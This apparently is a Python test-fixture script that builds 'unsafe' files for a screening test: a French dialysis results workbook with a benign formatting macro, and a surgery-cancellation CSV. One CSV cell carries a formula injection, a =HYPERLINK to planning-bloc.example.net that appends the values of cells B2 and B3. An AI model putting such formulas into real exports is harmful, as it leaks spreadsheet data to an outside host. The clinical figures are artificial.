"""What runs when a table is opened: a macro, and a formula in a CSV cell."""

import zipfile

from tests.airlock.outputs.case import Shelf
from tests.airlock.outputs23.kit import book, put, share

TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
MACRO = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
CODE = b'Attribute VB_Name = "Module1"\r\nSub MiseEnForme()\r\n  Columns("A:D").AutoFit\r\nEnd Sub\r\n'


def write(shelf: Shelf) -> None:
    a, b = 288, 301
    path = shelf.unsafe(
        "tableau_dialyse_peritoneale.xlsm", "macro", "xl/vbaProject.bin, a macro that formats the table",
        "Péritonites en dialyse péritonéale selon le système", "589 patients en dialyse péritonéale",
    )  # fmt: skip
    plain = shelf.path("parts/tableau.xlsx")
    book({"Résultats": [
        ("Critère", f"DPCA (n={a})", f"DPA (n={b})", "p"), ("Péritonite à 1 an", share(71, a, True), share(62, b, True), "0,24"),
        ("Transfert en hémodialyse", share(39, a, True), share(33, b, True), "0,34"), ("Greffe", share(41, a, True), share(58, b, True), "0,10"),
        ("Décès", share(27, a, True), share(22, b, True), "0,37"),
    ]}).save(plain)  # fmt: skip
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as made:
        for name in source.namelist():
            content = source.read(name)
            if name == "[Content_Types].xml":
                binary = b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
                content = content.replace(TYPE.encode(), MACRO.encode()).replace(b"</Types>", binary)
            if name == "xl/_rels/workbook.xml.rels":
                link = b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
                content = content.replace(b"</Relationships>", link + b'Target="vbaProject.bin"/></Relationships>')
            made.writestr(zipfile.ZipInfo(name, (2026, 3, 2, 9, 0, 0)), content)
        made.writestr(
            zipfile.ZipInfo("xl/vbaProject.bin", (2026, 3, 2, 9, 0, 0)),
            bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504) + CODE,
        )

    path = shelf.unsafe(
        "free_text_reasons_cancelled_surgery.csv", "formula injection", "label of a reason is =HYPERLINK(...) to another site",
        "Reasons for cancelled surgery as typed, grouped", "1,711 cancelled operations",
    )  # fmt: skip
    put(
        path,
        """
reason,operations,percent
"Patient not fit (fever, infection)",412,24.1
"No intensive care bed",371,21.7
"List overrun",318,18.6
"Patient did not attend",241,14.1
"=HYPERLINK(""http://planning-bloc.example.net/log?x=""&B2&B3,""Equipment missing"")",198,11.6
"Anticoagulant not stopped",171,10.0
""",
    )
